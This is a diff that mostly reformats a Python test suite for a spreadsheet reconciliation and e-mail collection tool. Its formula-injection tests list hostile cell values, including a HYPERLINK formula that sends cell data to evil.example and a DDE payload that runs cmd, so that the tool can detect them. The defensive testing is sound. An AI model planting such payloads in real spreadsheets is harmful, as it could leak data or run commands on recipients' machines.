@@ -6,6 +6,7 @@ percentage typed in the Budget column is an error on its cell; ``generate --from
 department's own row order whether it starts from the master or from its export; a workbook in a
 forwarded e-mail is credited to the author of the forwarded message.
 """
+
 from __future__ import annotations
 
 import openpyxl
@@ -50,14 +51,25 @@ def typed(book, sheet: str, row: int, values: dict, as_text: bool = False) -> No
             target.data_type = "s"
 
 
-def filled(templates, returned, code: str, rows: list[dict], cells: list[tuple[int, dict, bool]] = (),
-           kpis: list[dict] | None = None):
+def filled(
+    templates,
+    returned,
+    code: str,
+    rows: list[dict],
+    cells: list[tuple[int, dict, bool]] = (),
+    kpis: list[dict] | None = None,
+):
     """The department's template with ``rows`` typed from the first data row, then ``cells`` over them."""
     from cascadebook.fill import fill_workbook
 
-    path = fill_workbook(templates[code], returned / f"{code}.xlsx",
-                         rows={"initiatives": rows,
-                               "kpis": kpis or [clean_kpi(f"{code}-I{n:02d}", f"KPI {n}") for n in range(1, len(rows) + 1)]})
+    path = fill_workbook(
+        templates[code],
+        returned / f"{code}.xlsx",
+        rows={
+            "initiatives": rows,
+            "kpis": kpis or [clean_kpi(f"{code}-I{n:02d}", f"KPI {n}") for n in range(1, len(rows) + 1)],
+        },
+    )
     if cells:
         book = openpyxl.load_workbook(path)
         for row, values, as_text in cells:
@@ -68,31 +80,65 @@ def filled(templates, returned, code: str, rows: list[dict], cells: list[tuple[i
 
 # ---------------------------------------------------------------- a. formula-text on ordinary text
 
-@pytest.mark.parametrize("text", ["+6 enterprise logos", "-cost per lead", "+44 qualified leads", "- see notes",
-                                  "@john to confirm", "-5", "+Q3 launch", "=====", "-----"])
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "+6 enterprise logos",
+        "-cost per lead",
+        "+44 qualified leads",
+        "- see notes",
+        "@john to confirm",
+        "-5",
+        "+Q3 launch",
+        "=====",
+        "-----",
+    ],
+)
 def test_ordinary_text_is_not_formula_like(text):
     assert not looks_like_formula(text)
 
 
-@pytest.mark.parametrize("text", ["=SUM(A1)", '=HYPERLINK("http://evil.example/?x="&A1,"Details")', "=1+1", "+A1*2",
-                                  "-B5", "@SUM(A1:A9)", "+5*2", "-2+3+cmd|' /C calc'!A0", "+'Plan 2027'!B2*2",
-                                  "\t=1+1"])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "=SUM(A1)",
+        '=HYPERLINK("http://evil.example/?x="&A1,"Details")',
+        "=1+1",
+        "+A1*2",
+        "-B5",
+        "@SUM(A1:A9)",
+        "+5*2",
+        "-2+3+cmd|' /C calc'!A0",
+        "+'Plan 2027'!B2*2",
+        "\t=1+1",
+    ],
+)
 def test_what_a_spreadsheet_would_run_is_formula_like(text):
     assert looks_like_formula(text)
 
 
 def test_formula_text_flags_formulas_and_leaves_ordinary_text_alone(strategy, key, templates, returned, tmp_path):
-    rows = [clean_initiative("CO1", "+6 enterprise logos", 1, 2, notes="- see the Q3 plan"),
-            clean_initiative("CO1", "Partner webinars", 1, 2, expected_impact="+A1*2", metric="-cost per lead"),
-            clean_initiative("CO1", "Placeholder", 1, 2)]
+    rows = [
+        clean_initiative("CO1", "+6 enterprise logos", 1, 2, notes="- see the Q3 plan"),
+        clean_initiative("CO1", "Partner webinars", 1, 2, expected_impact="+A1*2", metric="-cost per lead"),
+        clean_initiative("CO1", "Placeholder", 1, 2),
+    ]
     # Row 7's title and notes typed with a leading apostrophe, as a person keeps a formula as text.
-    filled(templates, returned, "MKT", rows,
-           cells=[(FIRST + 2, {"title": "=SUM(A1)", "notes": '=HYPERLINK("http://evil.example","Click")'}, True)])
+    filled(
+        templates,
+        returned,
+        "MKT",
+        rows,
+        cells=[(FIRST + 2, {"title": "=SUM(A1)", "notes": '=HYPERLINK("http://evil.example","Click")'}, True)],
+    )
 
     result = reconcile(strategy, [returned], key=key, jobs=1)
     flagged = {f.cell for f in result.findings if f.code == "formula-text"}
     assert flagged == {cell("expected_impact", FIRST + 1), cell("title", FIRST + 2), cell("notes", FIRST + 2)}
-    message = next(f.message for f in result.findings if f.cell == cell("title", FIRST + 2) and f.code == "formula-text")
+    message = next(
+        f.message for f in result.findings if f.cell == cell("title", FIRST + 2) and f.code == "formula-text"
+    )
     assert message.startswith("Initiative starts with '=' and would run as a formula")
 
     master = master_rows(write_master(result, tmp_path / "master.xlsx"))
@@ -105,18 +151,23 @@ def test_formula_text_flags_formulas_and_leaves_ordinary_text_alone(strategy, ke
 
 # ---------------------------------------------------------------- b. a reading explained once
 
+
 def test_a_value_read_leniently_is_explained_once(strategy, key, templates, returned, tmp_path):
-    rows = [clean_initiative("CO1", "Share of renewals", "25%", 0.4, unit="%", contribution_weight="25%"),
-            clean_initiative("CO1", "Dot thousands", 1, "1.200")]
+    rows = [
+        clean_initiative("CO1", "Share of renewals", "25%", 0.4, unit="%", contribution_weight="25%"),
+        clean_initiative("CO1", "Dot thousands", 1, "1.200"),
+    ]
     filled(templates, returned, "MKT", rows)
 
     result = reconcile(strategy, [returned], key=key, jobs=1)
     got = {f.cell: f.message for f in result.findings if f.code == "read-leniently"}
     assert got[cell("baseline", FIRST)] == "Baseline '25%' was read as 0.25; the template asks for a number"
-    assert got[cell("contribution_weight", FIRST)] == ("Weight '25%' was read as 0.25; the template asks for a "
-                                                       "number or percentage")
-    assert got[cell("target", FIRST + 1)] == ("Target '1.200' was read as 1.2 (a dot is a decimal point); the "
-                                              "template asks for a number")
+    assert got[cell("contribution_weight", FIRST)] == (
+        "Weight '25%' was read as 0.25; the template asks for a number or percentage"
+    )
+    assert got[cell("target", FIRST + 1)] == (
+        "Target '1.200' was read as 1.2 (a dot is a decimal point); the template asks for a number"
+    )
     for message in got.values():
         assert message.count(" as ") == 1, message  # "read as 0.25 (read 25% as 0.25)" said it twice
 
@@ -138,6 +189,7 @@ def test_note_reason_keeps_only_what_the_reading_does_not_say():
 
 # ---------------------------------------------------------------- c. a percentage in the Budget column
 
+
 def test_a_percentage_is_not_an_amount():
     from cascadebook.values import parse_value
 
@@ -148,18 +200,27 @@ def test_a_percentage_is_not_an_amount():
 
 
 def test_a_percentage_in_the_budget_column_is_an_error_on_its_cell(strategy, key, templates, returned, tmp_path):
-    rows = [clean_initiative("CO1", "Paid search", 1, 2, budget="15%"),
-            clean_initiative("CO1", "Events", 1, 2, budget="$250k"),
-            clean_initiative("CO1", "Budget as an amount", 1, 2, budget=120000)]
+    rows = [
+        clean_initiative("CO1", "Paid search", 1, 2, budget="15%"),
+        clean_initiative("CO1", "Events", 1, 2, budget="$250k"),
+        clean_initiative("CO1", "Budget as an amount", 1, 2, budget=120000),
+    ]
     filled(templates, returned, "MKT", rows)
 
     result = reconcile(strategy, [returned], key=key, jobs=1)
     [finding] = [f for f in result.findings if f.cell == cell("budget", FIRST)]
-    assert (finding.code, finding.severity, finding.department, finding.sheet) == \
-        ("wrong-type", "error", "MKT", INITIATIVES.title)
+    assert (finding.code, finding.severity, finding.department, finding.sheet) == (
+        "wrong-type",
+        "error",
+        "MKT",
+        INITIATIVES.title,
+    )
     assert finding.message == "Budget should be an amount, not a percentage, found '15%'"
-    assert not [f for f in result.findings if f.cell in (cell("budget", FIRST + 1), cell("budget", FIRST + 2))
-                and f.severity != "info"]
+    assert not [
+        f
+        for f in result.findings
+        if f.cell in (cell("budget", FIRST + 1), cell("budget", FIRST + 2)) and f.severity != "info"
+    ]
 
     master = master_rows(write_master(result, tmp_path / "master.xlsx"))
     assert master["MKT-I01"][HEADER["budget"]] == "15%"  # kept as typed, not 0.15 of the company currency
@@ -169,9 +230,13 @@ def test_a_percentage_in_the_budget_column_is_an_error_on_its_cell(strategy, key
 
 # ---------------------------------------------------------------- d. generate --from keeps the department's order
 
+
 def _ids_by_department(prefill: dict) -> dict[tuple[str, str], list[str]]:
-    return {(code, sheet): [row.get("id") for row in rows] for code, sheets in prefill.items()
-            for sheet, rows in sheets.items()}
+    return {
+        (code, sheet): [row.get("id") for row in rows]
+        for code, sheets in prefill.items()
+        for sheet, rows in sheets.items()
+    }
 
 
 def _template_ids(path) -> dict[str, list[str]]:
@@ -183,8 +248,11 @@ def _template_ids(path) -> dict[str, list[str]]:
         id_col = [c.key for c in sheet.columns].index("id") + 1
         title_keys = [c.key for c in sheet.columns if c.required and c.key != "id"]
         title_col = [c.key for c in sheet.columns].index(title_keys[-1]) + 1
-        out[sheet.key] = [ws.cell(r, id_col).value for r in range(FIRST, ws.max_row + 1)
-                          if ws.cell(r, title_col).value not in (None, "")]
+        out[sheet.key] = [
+            ws.cell(r, id_col).value
+            for r in range(FIRST, ws.max_row + 1)
+            if ws.cell(r, title_col).value not in (None, "")
+        ]
     return out
 
 
@@ -218,8 +286,12 @@ def test_generate_from_export_and_from_master_write_the_same_templates(strategy,
     from cascadebook.export import export_master
     from cascadebook.master_read import prefill_rows, read_master
 
-    rows = [clean_initiative("CO3", "Third objective first", 1, 2), clean_initiative("CO1", "Then the first", 1, 2),
-            clean_initiative("CO2", "Then the second", 1, 2), clean_initiative("CO1", "First again", 1, 2)]
+    rows = [
+        clean_initiative("CO3", "Third objective first", 1, 2),
+        clean_initiative("CO1", "Then the first", 1, 2),
+        clean_initiative("CO2", "Then the second", 1, 2),
+        clean_initiative("CO1", "First again", 1, 2),
+    ]
     kpis = [clean_kpi(f"MKT-I0{n}", f"KPI for I0{n}") for n in (4, 3, 2, 1)]
     filled(templates, returned, "MKT", rows, kpis=kpis)
     result = reconcile(strategy, [returned], key=key, jobs=1)
@@ -228,8 +300,14 @@ def test_generate_from_export_and_from_master_write_the_same_templates(strategy,
 
     written = {}
     for name, source in (("master", master), ("export", tmp_path / "export")):
-        [path] = generate(strategy, tmp_path / name, key=key, departments=["MKT"],
-                          prefill=prefill_rows(read_master(source)), generated_at="2027-01-04T09:00:00+00:00")
+        [path] = generate(
+            strategy,
+            tmp_path / name,
+            key=key,
+            departments=["MKT"],
+            prefill=prefill_rows(read_master(source)),
+            generated_at="2027-01-04T09:00:00+00:00",
+        )
         written[name] = _template_ids(path)
     assert written["export"] == written["master"]
     assert written["master"]["initiatives"] == ["MKT-I01", "MKT-I02", "MKT-I03", "MKT-I04"]
@@ -239,6 +317,7 @@ def test_generate_from_export_and_from_master_write_the_same_templates(strategy,
 
 
 # ---------------------------------------------------------------- e. a forwarded e-mail is its author's
+
 
 def _forward_as_attachment(forwarder: str, original, when, subject: str = "Fwd: goal plan"):
     """What a mail program sends for "Forward as attachment": the original message inside, whole."""
@@ -262,14 +341,14 @@ def _forward_inline(forwarder: str, original, when, data: bytes, name: str, styl
 
     quoted = {
         "gmail": f"FYI\n\n---------- Forwarded message ---------\nFrom: {original['From']}\n"
-                 f"Date: Mon, Jan 18, 2027 at 9:12 AM\nSubject: {original['Subject']}\nTo: <strategy@northwind.example>\n",
+        f"Date: Mon, Jan 18, 2027 at 9:12 AM\nSubject: {original['Subject']}\nTo: <strategy@northwind.example>\n",
         "outlook": "FYI\n\n________________________________\nFrom: Raman, Priya [mailto:priya.raman@northwind.example]\n"
-                   "Sent: Monday, January 18, 2027 9:12 AM\nTo: Strategy Office\nSubject: goal plan\n",
+        "Sent: Monday, January 18, 2027 9:12 AM\nTo: Strategy Office\nSubject: goal plan\n",
         "apple": f"FYI\n\nBegin forwarded message:\n\n> From: {original['From']}\n> Subject: {original['Subject']}\n",
         "html": '<div dir="ltr">FYI<br><div class="gmail_quote"><div>---------- Forwarded message ---------<br>'
-                'From: <strong class="gmail_sendername">Priya Raman</strong> <span dir="auto">&lt;<a href="mailto:'
-                'priya.raman@northwind.example">priya.raman@northwind.example</a>&gt;</span><br>Date: Mon, Jan 18, '
-                '2027 at 9:12 AM<br>Subject: MKT goal plan<br></div></div></div>',
+        'From: <strong class="gmail_sendername">Priya Raman</strong> <span dir="auto">&lt;<a href="mailto:'
+        'priya.raman@northwind.example">priya.raman@northwind.example</a>&gt;</span><br>Date: Mon, Jan 18, '
+        '2027 at 9:12 AM<br>Subject: MKT goal plan<br></div></div></div>',
     }[style]
     msg = EmailMessage()
     msg["From"], msg["To"] = forwarder, "strategy@northwind.example"
@@ -296,15 +375,26 @@ def test_a_coworker_forwarding_the_heads_message_credits_the_head(cycle):
 
     utc = dt.timezone.utc
     data = cycle.fill("MKT").read_bytes()
-    original = message("Priya Raman <priya.raman@northwind.example>", "MKT goal plan", dt.datetime(2027, 1, 18, 9, tzinfo=utc),
-                       [("FY2027_MKT.xlsx", data, XLSX)])
+    original = message(
+        "Priya Raman <priya.raman@northwind.example>",
+        "MKT goal plan",
+        dt.datetime(2027, 1, 18, 9, tzinfo=utc),
+        [("FY2027_MKT.xlsx", data, XLSX)],
+    )
     mail = cycle.root / "mail"
     mail.mkdir()
-    eml = _write(mail / "fwd.eml", _forward_as_attachment("Sam Lee <sam.lee@northwind.example>", original,
-                                                           dt.datetime(2027, 1, 20, 9, tzinfo=utc)))
+    eml = _write(
+        mail / "fwd.eml",
+        _forward_as_attachment(
+            "Sam Lee <sam.lee@northwind.example>", original, dt.datetime(2027, 1, 20, 9, tzinfo=utc)
+        ),
+    )
     [item] = [i for i in iter_items(eml) if i.kind == "workbook"]
-    assert (item.sender, item.sender_name, item.forwarded_by) == \
-        ("priya.raman@northwind.example", "Priya Raman", "sam.lee@northwind.example")
+    assert (item.sender, item.sender_name, item.forwarded_by) == (
+        "priya.raman@northwind.example",
+        "Priya Raman",
+        "sam.lee@northwind.example",
+    )
     assert item.date == dt.datetime(2027, 1, 18, 9, tzinfo=utc)  # when the head sent this version
     assert item.subject == "MKT goal plan" and item.data == data
 
@@ -316,8 +406,11 @@ def test_a_coworker_forwarding_the_heads_message_credits_the_head(cycle):
 
     collected = collect([mail], cycle.root / "collected", strategy=cycle.strategy)
     [entry] = collected.collected
-    assert (entry.department, entry.sender, entry.forwarded_by) == \
-        ("MKT", "priya.raman@northwind.example", "sam.lee@northwind.example")
+    assert (entry.department, entry.sender, entry.forwarded_by) == (
+        "MKT",
+        "priya.raman@northwind.example",
+        "sam.lee@northwind.example",
+    )
     assert not collected.findings
 
 
@@ -329,19 +422,30 @@ def test_the_head_forwarding_someone_elses_message_credits_its_author(cycle):
 
     utc = dt.timezone.utc
     data = cycle.fill("MKT").read_bytes()
-    original = message("Sam Lee <sam.lee@northwind.example>", "plan for you to check", dt.datetime(2027, 1, 18, 9, tzinfo=utc),
-                       [("FY2027_MKT.xlsx", data, XLSX)], to="priya.raman@northwind.example")
+    original = message(
+        "Sam Lee <sam.lee@northwind.example>",
+        "plan for you to check",
+        dt.datetime(2027, 1, 18, 9, tzinfo=utc),
+        [("FY2027_MKT.xlsx", data, XLSX)],
+        to="priya.raman@northwind.example",
+    )
     mail = cycle.root / "mail"
     mail.mkdir()
-    eml = _write(mail / "fwd.eml", _forward_as_attachment("Priya Raman <priya.raman@northwind.example>", original,
-                                                           dt.datetime(2027, 1, 20, 9, tzinfo=utc)))
+    eml = _write(
+        mail / "fwd.eml",
+        _forward_as_attachment(
+            "Priya Raman <priya.raman@northwind.example>", original, dt.datetime(2027, 1, 20, 9, tzinfo=utc)
+        ),
+    )
     result = reconcile(cycle.strategy, [eml], key=KEY, jobs=1)
     [finding] = [f for f in result.findings if f.code == "sender-not-head"]
     assert finding.department == "MKT" and "sent by sam.lee@northwind.example" in finding.message
 
     collected = collect([mail], cycle.root / "collected", strategy=cycle.strategy)
     [finding] = collected.findings
-    assert finding.message.startswith("MKT's workbook was sent by sam.lee@northwind.example, not by the department head")
+    assert finding.message.startswith(
+        "MKT's workbook was sent by sam.lee@northwind.example, not by the department head"
+    )
     assert "forwarded by priya.raman@northwind.example" in finding.message
 
 
@@ -354,10 +458,20 @@ def test_an_inline_forward_credits_the_author_named_in_the_forwarded_block(cycle
 
     utc = dt.timezone.utc
     data = cycle.fill("MKT").read_bytes()
-    original = message("Priya Raman <priya.raman@northwind.example>", "MKT goal plan", dt.datetime(2027, 1, 18, 9, tzinfo=utc))
-    eml = _write(cycle.root / "fwd.eml", _forward_inline("Sam Lee <sam.lee@northwind.example>", original,
-                                                          dt.datetime(2027, 1, 20, 9, tzinfo=utc), data, "FY2027_MKT.xlsx",
-                                                          style))
+    original = message(
+        "Priya Raman <priya.raman@northwind.example>", "MKT goal plan", dt.datetime(2027, 1, 18, 9, tzinfo=utc)
+    )
+    eml = _write(
+        cycle.root / "fwd.eml",
+        _forward_inline(
+            "Sam Lee <sam.lee@northwind.example>",
+            original,
+            dt.datetime(2027, 1, 20, 9, tzinfo=utc),
+            data,
+            "FY2027_MKT.xlsx",
+            style,
+        ),
+    )
     [item] = [i for i in iter_items(eml) if i.kind == "workbook"]
     assert (item.sender, item.forwarded_by) == ("priya.raman@northwind.example", "sam.lee@northwind.example")
     assert item.date == dt.datetime(2027, 1, 20, 9, tzinfo=utc)  # the quoted date is not machine-readable
@@ -367,17 +481,21 @@ def test_an_inline_forward_credits_the_author_named_in_the_forwarded_block(cycle
 
 
 def test_a_reply_quoting_an_earlier_message_is_the_repliers(cycle):
-    """"RE:" over an "Original Message" block is a reply: the workbook attached is the replier's own."""
+    """ "RE:" over an "Original Message" block is a reply: the workbook attached is the replier's own."""
     import datetime as dt
 
     from cascadebook.mail.collect import iter_items
     from mail_fixtures import XLSX, message
 
     data = cycle.fill("MKT").read_bytes()
-    reply = message("Sam Lee <sam.lee@northwind.example>", "RE: goal plan", dt.datetime(2027, 1, 20, 9, tzinfo=dt.timezone.utc),
-                    [("FY2027_MKT.xlsx", data, XLSX)],
-                    body="Here it is.\n\n-----Original Message-----\nFrom: Priya Raman <priya.raman@northwind.example>\n"
-                         "Sent: Monday, January 18, 2027 9:12 AM\nSubject: goal plan\n\nCan you fill it in?\n")
+    reply = message(
+        "Sam Lee <sam.lee@northwind.example>",
+        "RE: goal plan",
+        dt.datetime(2027, 1, 20, 9, tzinfo=dt.timezone.utc),
+        [("FY2027_MKT.xlsx", data, XLSX)],
+        body="Here it is.\n\n-----Original Message-----\nFrom: Priya Raman <priya.raman@northwind.example>\n"
+        "Sent: Monday, January 18, 2027 9:12 AM\nSubject: goal plan\n\nCan you fill it in?\n",
+    )
     eml = _write(cycle.root / "reply.eml", reply)
     [item] = [i for i in iter_items(eml) if i.kind == "workbook"]
     assert (item.sender, item.forwarded_by) == ("sam.lee@northwind.example", "")
@@ -391,11 +509,20 @@ def test_an_outlook_msg_forwarded_inline_credits_the_author(cycle):
 
     data = cycle.fill("MKT").read_bytes()
     path = cycle.root / "FW goal plan.msg"
-    write_msg(path, sender="sam.lee@northwind.example", sender_name="Sam Lee", to="strategy@northwind.example",
-              subject="FW: goal plan", date=dt.datetime(2027, 1, 20, 9, tzinfo=dt.timezone.utc),
-              body="FYI\r\n\r\nFrom: Raman, Priya <priya.raman@northwind.example>\r\nSent: Monday, January 18, 2027 "
-                   "9:12 AM\r\nTo: Strategy Office\r\nSubject: goal plan\r\n",
-              attachments=[("FY2027_MKT.xlsx", data)])
+    write_msg(
+        path,
+        sender="sam.lee@northwind.example",
+        sender_name="Sam Lee",
+        to="strategy@northwind.example",
+        subject="FW: goal plan",
+        date=dt.datetime(2027, 1, 20, 9, tzinfo=dt.timezone.utc),
+        body="FYI\r\n\r\nFrom: Raman, Priya <priya.raman@northwind.example>\r\nSent: Monday, January 18, 2027 "
+        "9:12 AM\r\nTo: Strategy Office\r\nSubject: goal plan\r\n",
+        attachments=[("FY2027_MKT.xlsx", data)],
+    )
     [item] = [i for i in iter_items(path) if i.kind == "workbook"]
-    assert (item.sender, item.sender_name, item.forwarded_by) == \
-        ("priya.raman@northwind.example", "Raman, Priya", "sam.lee@northwind.example")
+    assert (item.sender, item.sender_name, item.forwarded_by) == (
+        "priya.raman@northwind.example",
+        "Raman, Priya",
+        "sam.lee@northwind.example",
+    )
